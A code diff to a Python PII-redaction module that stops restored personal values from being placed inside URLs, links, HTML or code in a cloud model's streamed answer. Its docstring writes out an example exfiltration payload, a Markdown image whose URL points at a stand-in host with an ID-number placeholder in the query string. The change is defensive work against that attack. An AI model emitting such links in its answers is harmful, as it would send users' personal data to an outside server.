@@ -5,7 +5,10 @@ suppression live there); :class:`Redactor` swaps each distinct value for a numbe
 like ``[手机号_1]`` and keeps the mapping on the device. The same value always gets the same placeholder
 within one request, so a cloud model can still refer to "the same phone number", and
 :class:`StreamRestorer` puts the real values back into a streamed answer even when a placeholder is split
-across chunks. :func:`redact_lines` is the same thing for ``lingxi privacy redact``, one line at a time.
+across chunks — but only in prose: a placeholder inside a URL, a Markdown link target, an HTML tag or code
+(:mod:`lingxi.privacy.carriers`) is left as it is and listed in :attr:`StreamRestorer.withheld`, so a cloud
+model cannot make the device send a value away by writing ``![x](https://evil.example/?d=[身份证号_1])``.
+:func:`redact_lines` is the same thing for ``lingxi privacy redact``, one line at a time.
 """
 
 from __future__ import annotations
@@ -15,6 +18,7 @@ import re
 from collections.abc import Iterable, Iterator
 from dataclasses import dataclass, field
 
+from lingxi.privacy.carriers import carrier
 from lingxi.privacy.names_model import NameModel
 from lingxi.privacy.pii import RECOGNIZERS, Recognizer, Span, find_pii
 from lingxi.privacy.pii_checks import luhn_ok, valid_resident_id
@@ -90,16 +94,22 @@ class Redactor:
 
 
 def restore(text: str, mapping: RedactionMap) -> str:
-    """Put original values back for every placeholder the mapping knows; unknown ones stay as they are."""
-    return _PLACEHOLDER.sub(lambda m: mapping.by_placeholder.get(m.group(0), m.group(0)), text)
+    """Put original values back for every placeholder the mapping knows, in prose only (as :class:`StreamRestorer`)."""
+    restorer = StreamRestorer(mapping)
+    return restorer.feed(text) + restorer.flush()
 
 
 class StreamRestorer:
-    """Restores placeholders in a stream, holding back only an unfinished ``[...`` at a chunk's end."""
+    """Restores placeholders in a stream, holding back only an unfinished ``[...`` at a chunk's end.
+
+    ``withheld`` lists, in order, the placeholders left unrestored because they stood inside a carrier.
+    """
 
     def __init__(self, mapping: RedactionMap) -> None:
         self.mapping = mapping
+        self.withheld: list[str] = []
         self._pending = ""
+        self._seen = ""  # the model's text so far, placeholders as written: the context for each decision
 
     def feed(self, delta: str) -> str:
         text = self._pending + delta
@@ -108,11 +118,26 @@ class StreamRestorer:
             self._pending, text = text[cut:], text[:cut]
         else:
             self._pending = ""
-        return restore(text, self.mapping)
+        return self._restore(text)
 
     def flush(self) -> str:
         text, self._pending = self._pending, ""
-        return restore(text, self.mapping)
+        return self._restore(text)
+
+    def _restore(self, text: str) -> str:
+        base = self._seen
+        self._seen += text
+
+        def one(m: re.Match[str]) -> str:
+            value = self.mapping.by_placeholder.get(m.group(0))
+            if value is None:
+                return m.group(0)
+            if carrier(base + text[: m.start()]) is not None:
+                self.withheld.append(m.group(0))
+                return m.group(0)
+            return value
+
+        return _PLACEHOLDER.sub(one, text)
 
 
 def redact_lines(
